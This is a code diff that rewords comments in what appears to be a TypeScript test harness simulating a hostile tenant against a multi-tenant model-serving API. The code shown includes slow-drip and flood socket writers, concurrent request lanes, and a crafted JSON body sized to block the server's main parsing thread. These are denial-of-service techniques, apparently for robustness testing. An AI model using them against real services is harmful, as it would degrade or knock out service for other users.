@@ -9,9 +9,9 @@ export interface Stage {
   readonly url: string;
   /** The hostile tenant's key. */
   readonly key: string;
-  /** A model of its own. */
+  /** The hostile tenant's own model. */
   readonly modelId: string;
-  /** A training job of that, which has ended. */
+  /** A finished training job of that model. */
   readonly jobId: string;
   readonly project: string;
 }
@@ -70,7 +70,7 @@ function ask(
   });
 }
 
-/** Does it again and again, so many at once. */
+/** Repeats a request, in `count` concurrent lanes. */
 async function lanes(
   count: number,
   signal: AbortSignal,
@@ -85,7 +85,7 @@ async function lanes(
   await Promise.all(Array.from({ length: count }, (_, index) => lane(index)));
 }
 
-/** Opens a connection, sends the beginning of a request, and resolves when the connection has ended. */
+/** Opens a connection, sends the start of a request, and resolves when the connection has ended. */
 function hold(
   { url }: Stage,
   signal: AbortSignal,
@@ -119,14 +119,14 @@ function headOf(path: string, key: string | null, bytes: number): readonly strin
   ];
 }
 
-/** A byte every five seconds, so that the body is never complete. */
+/** Sends a byte every five seconds, so that the body is never complete. */
 function drip(socket: Socket, first: string): void {
   socket.write(first);
   const timer = setInterval(() => socket.write(" "), 5000);
   socket.once("close", () => clearInterval(timer));
 }
 
-/** As many bytes as are taken. */
+/** Sends as many bytes as the server takes. */
 function pour(socket: Socket): void {
   const piece = Buffer.alloc(mebibyte, "[");
   const write = (): void => {
@@ -138,7 +138,7 @@ function pour(socket: Socket): void {
 
 const jsonOf = (value: object): string => JSON.stringify(value);
 
-/** Just below what is read in the server's own thread. */
+/** A body just below the size above which the server parses in a thread. */
 const denseChat = `{"messages":${jsonOf(hello)},"max_tokens":1,"n":0,"stop_token_ids":[${"[],".repeat(40_000)}0]}`;
 
 export const tricks: readonly Trick[] = [
